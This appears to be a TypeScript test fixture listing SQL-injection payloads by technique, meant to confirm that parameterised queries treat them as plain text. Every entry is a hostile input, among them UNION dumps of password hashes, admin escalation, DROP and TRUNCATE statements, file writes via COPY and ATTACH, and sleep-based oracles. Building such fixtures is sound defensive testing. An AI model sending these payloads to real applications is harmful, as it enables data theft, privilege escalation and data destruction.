/**
 * SQL-injection payloads, grouped by technique. Each aims at a different way string-built SQL
 * breaks (quote escape, comment, UNION, boolean and time oracles, stacked statements, dialect
 * quirks, encodings). Against parameterised queries every one of them is plain text.
 */
export const SQL_INJECTION_PAYLOADS: Record<string, string[]> = {
  classic: [
    "'",
    '"',
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR "1"="1',
    "admin'--",
    "admin' #",
    "') OR ('1'='1",
    "')) OR (('1'='1",
    "' OR ''='",
    '1 OR 1=1',
    "x' AND 1=0 UNION ALL SELECT NULL--",
    "\\' OR 1=1 --",
  ],
  union: [
    "' UNION SELECT NULL--",
    "' UNION SELECT NULL,NULL,NULL--",
    "' UNION SELECT username, password_hash FROM users--",
    "' UNION ALL SELECT id,username,email,password_hash,1,1,1,1,1,1,1,1,1,1,1 FROM users--",
    "') UNION SELECT sqlite_version()--",
    "' UNION SELECT version()--",
    "' UNION SELECT name FROM sqlite_master--",
    "' UNION SELECT table_name FROM information_schema.tables--",
  ],
  boolean: [
    "' AND 1=1 --",
    "' AND 1=2 --",
    "' AND SUBSTR((SELECT password_hash FROM users LIMIT 1),1,1)='$' --",
    "' AND (SELECT COUNT(*) FROM users) > 0 --",
    "1' AND '1'='1",
    "' OR EXISTS(SELECT 1 FROM users WHERE is_admin=1) --",
  ],
  time: [
    "'; SELECT pg_sleep(3)--",
    "' OR pg_sleep(3) IS NULL--",
    "' AND 1=(SELECT 1 FROM pg_sleep(3))--",
    "' OR 1=(SELECT CASE WHEN 1=1 THEN randomblob(300000000) ELSE 1 END)--",
    "' AND SLEEP(3)--",
    "1; WAITFOR DELAY '0:0:3'--",
    "' || (SELECT pg_sleep(3))::text || '",
  ],
  stacked: [
    "'; DROP TABLE users; --",
    "'; DELETE FROM users; --",
    "'; UPDATE users SET is_admin=1; --",
    "'; INSERT INTO users (id) VALUES ('x'); --",
    '1; DROP TABLE sessions',
    "'); TRUNCATE users CASCADE; --",
    "'; ATTACH DATABASE '/tmp/pwn.db' AS pwn; --",
    "'; COPY users TO '/tmp/pwn.csv'; --",
  ],
  comments: ["'/*", '*/', "'/**/OR/**/1=1--", "' OR 1=1#", "' OR 1=1;%00", "'--", "' -- -", '/*!50000SELECT*/'],
  quotesAndUnicode: [
    '\u02bc OR 1=1 --', // modifier letter apostrophe
    '\uff07 OR 1=1 --', // fullwidth apostrophe
    '\u2019 OR \u20191\u2019=\u20191',
    '%27%20OR%201%3D1--',
    '&#39; OR 1=1 --',
    '\\x27 OR 1=1',
    "''''''''",
    "'\u0000' OR 1=1",
    '\u00bf\u0027 OR 1=1 --', // ¿' (GBK multibyte trick)
    "%' OR '%'='",
    '%',
    '_',
    '%%',
    '\\',
    '$1',
    '?',
    "E'\\x27'",
    '$$ OR 1=1 $$',
    "'::text",
    'NULL',
    'null',
  ],
};

export const ALL_SQL_PAYLOADS: string[] = Object.values(SQL_INJECTION_PAYLOADS).flat();
